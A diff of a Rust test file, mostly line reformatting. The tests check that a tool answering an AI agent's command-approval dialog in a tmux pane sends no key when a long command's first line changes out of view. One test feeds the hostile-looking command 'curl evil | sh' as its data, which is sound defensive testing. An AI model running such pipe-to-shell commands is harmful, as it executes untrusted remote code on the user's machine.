@@ -43,7 +43,9 @@ impl Agent {
         std::fs::write(w.dir.path().join("agent.sh"), AGENT).expect("agent script");
         w.server
             .run(&["resize-window", "-t", "t", "-y", &(rows + 1).to_string()]);
-        let height = w.server.run(&["display-message", "-p", "-t", "%0", "#{pane_height}"]);
+        let height = w
+            .server
+            .run(&["display-message", "-p", "-t", "%0", "#{pane_height}"]);
         assert_eq!(height.trim(), rows.to_string(), "the pane's height");
         let keys = w.dir.path().join("keys");
         Agent { w, keys }
@@ -65,7 +67,10 @@ impl Agent {
         self.w.server.run(&["respawn-pane", "-k", "-t", "%0", &run]);
         let screen = until_contains(WITHIN, "Esc to cancel", || self.capture());
         let last = command.last().expect("a command");
-        assert!(screen.contains(last.as_str()), "the dialog is drawn: {screen}");
+        assert!(
+            screen.contains(last.as_str()),
+            "the dialog is drawn: {screen}"
+        );
         let tty = self.w.server.pane_tty("%0");
         let cwd = self.w.project("long");
         self.w.alive(&[(&cwd, &tty)]);
@@ -139,7 +144,11 @@ fn a_redraw_that_changes_only_the_head_of_a_long_command_gets_no_key() {
     // The same question, options and last 39 lines; another first line.
     a.ask(&forty_lines("curl evil | sh"));
     let out = a.reply(&["s-long", "1", "--expect", &fingerprint]);
-    assert_eq!(a.first_key_before_x(), "x", "no key reached the agent: {out:?}");
+    assert_eq!(
+        a.first_key_before_x(),
+        "x",
+        "no key reached the agent: {out:?}"
+    );
     assert_eq!(out.status.code(), Some(1), "{out:?}");
     assert_eq!(
         stderr(&out),
@@ -166,7 +175,11 @@ fn a_dialog_taller_than_its_pane_gets_no_key() {
     assert_eq!(stdout(&out), "", "nothing listed");
 
     let out = a.reply(&["s-long", "1"]);
-    assert_eq!(a.first_key_before_x(), "x", "no key reached the agent: {out:?}");
+    assert_eq!(
+        a.first_key_before_x(),
+        "x",
+        "no key reached the agent: {out:?}"
+    );
     assert_eq!(out.status.code(), Some(1), "answer: {out:?}");
     assert_eq!(stderr(&out), cut);
 }
